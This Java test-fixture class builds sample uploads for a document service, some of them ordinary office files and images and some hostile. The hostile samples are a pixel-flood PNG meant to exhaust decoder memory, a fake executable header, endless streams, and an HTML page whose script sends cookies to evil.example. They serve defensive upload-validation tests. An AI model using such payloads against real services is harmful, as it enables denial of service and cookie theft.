package org.passerelle.documents;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Files made for the tests: real documents of the allowed types and the hostile ones of the issue. */
public final class TestFiles {

    public static final String FRENCH = "Le projet vise à construire un centre de santé dans la province du Sud."
            + " Les membres de la diaspora apportent leurs compétences en gestion et en médecine,"
            + " et la commune fournit le terrain. Le budget couvre les travaux et la formation du personnel.";
    public static final String ENGLISH = "The project builds a health centre in the Southern Province."
            + " Members of the diaspora bring their skills in management and medicine,"
            + " and the district provides the land. The budget covers the works and the training of staff.";

    private TestFiles() {}

    /** A one-page PDF with a title and author, whose text is {@code text} (lines of at most 90 characters). */
    public static byte[] pdf(String title, String text) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDDocumentInformation info = new PDDocumentInformation();
            info.setTitle(title);
            info.setAuthor("Ubumwe Bruxelles");
            document.setDocumentInformation(info);
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 11);
                content.newLineAtOffset(50, 720);
                content.setLeading(14);
                for (String line : lines(text, 90)) {
                    content.showText(line);
                    content.newLine();
                }
                content.endText();
            }
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A PDF of pages of {@code text} whose first page also shows a photo-like image (random pixels, which do not
     * compress) sized so that the file weighs about {@code minBytes}, as scanned annexes make real PDFs large.
     */
    public static byte[] pdfPages(String title, String text, int minBytes) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.getDocumentInformation().setTitle(title);
            List<String> lines = lines(text, 90);
            int side = (int) Math.sqrt(minBytes / 3.0);
            BufferedImage photo = new BufferedImage(side, side, BufferedImage.TYPE_INT_RGB);
            java.util.Random random = new java.util.Random(42);
            for (int y = 0; y < side; y++) {
                for (int x = 0; x < side; x++) {
                    photo.setRGB(x, y, random.nextInt(0x1000000));
                }
            }
            var image = org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory.createFromImage(document, photo);
            for (int start = 0; start < lines.size(); start += 48) {
                PDPage page = new PDPage();
                document.addPage(page);
                try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                    if (start == 0) {
                        content.drawImage(image, 40, 40, 200, 200);
                    }
                    content.beginText();
                    content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 10);
                    content.newLineAtOffset(40, 740);
                    content.setLeading(14);
                    for (String line : lines.subList(start, Math.min(lines.size(), start + 48))) {
                        content.showText(line);
                        content.newLine();
                    }
                    content.endText();
                }
            }
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] docx(String text) {
        try (XWPFDocument document = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.getProperties().getCoreProperties().setTitle("Letter of support");
            document.createParagraph().createRun().setText(text);
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xlsx() {
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Budget").createRow(0).createCell(0).setCellValue("Panneaux solaires");
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xls() {
        try (var workbook = new org.apache.poi.hssf.usermodel.HSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("Budget").createRow(0).createCell(0).setCellValue("Panneaux solaires");
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pptx() {
        try (var slides = new org.apache.poi.xslf.usermodel.XMLSlideShow();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            slides.createSlide().createTextBox().setText("Centre de santé");
            slides.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] jpeg(int width, int height) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "jpg", out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] png(int width, int height) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A pixel flood: a tiny, valid-looking PNG that claims {@code width × height} pixels; decoding it would need
     * gigabytes.
     */
    public static byte[] pixelFloodPng(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer header = ByteBuffer.allocate(13);
        header.putInt(width)
                .putInt(height)
                .put((byte) 8)
                .put((byte) 2)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0);
        chunk(out, "IHDR", header.array());
        Deflater deflater = new Deflater();
        deflater.setInput(new byte[4096]);
        deflater.finish();
        byte[] compressed = new byte[4096];
        int length = deflater.deflate(compressed);
        chunk(out, "IDAT", java.util.Arrays.copyOf(compressed, length));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(name);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    public static byte[] zip() {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("budget.txt"));
            zip.write(ENGLISH.getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The start of a Windows executable (DOS header and stub). */
    public static byte[] executable() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, exe, 0x4e, stub.length);
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] htmlWithScript() {
        return ("<!DOCTYPE html><html><head><title>Agenda</title></head><body>"
                        + "<script>document.location='https://evil.example/?c='+document.cookie</script>"
                        + "<p>" + ENGLISH + "</p></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** An endless stream that counts what was read from it. */
    public static final class Endless extends InputStream {
        public long read;

        @Override
        public int read() {
            read++;
            return 'a';
        }

        @Override
        public int read(byte[] buffer, int offset, int length) {
            java.util.Arrays.fill(buffer, offset, offset + length, (byte) 'a');
            read += length;
            return length;
        }
    }

    /** A stream that breaks after {@code limit} bytes, as when the person cancels or the connection drops. */
    public static final class BreaksAfter extends InputStream {
        private final long limit;
        private long read;

        public BreaksAfter(long limit) {
            this.limit = limit;
        }

        @Override
        public int read() throws IOException {
            if (read >= limit) {
                throw new IOException("Connection reset by peer");
            }
            read++;
            return '%';
        }

        @Override
        public int read(byte[] buffer, int offset, int length) throws IOException {
            if (read >= limit) {
                throw new IOException("Connection reset by peer");
            }
            int n = (int) Math.min(length, limit - read);
            java.util.Arrays.fill(buffer, offset, offset + n, (byte) '%');
            read += n;
            return n;
        }
    }

    private static java.util.List<String> lines(String text, int width) {
        java.util.List<String> lines = new java.util.ArrayList<>();
        StringBuilder line = new StringBuilder();
        for (String word : text.split(" ")) {
            if (line.length() + word.length() + 1 > width) {
                lines.add(line.toString());
                line.setLength(0);
            }
            line.append(line.isEmpty() ? "" : " ").append(word);
        }
        lines.add(line.toString());
        return lines;
    }
}
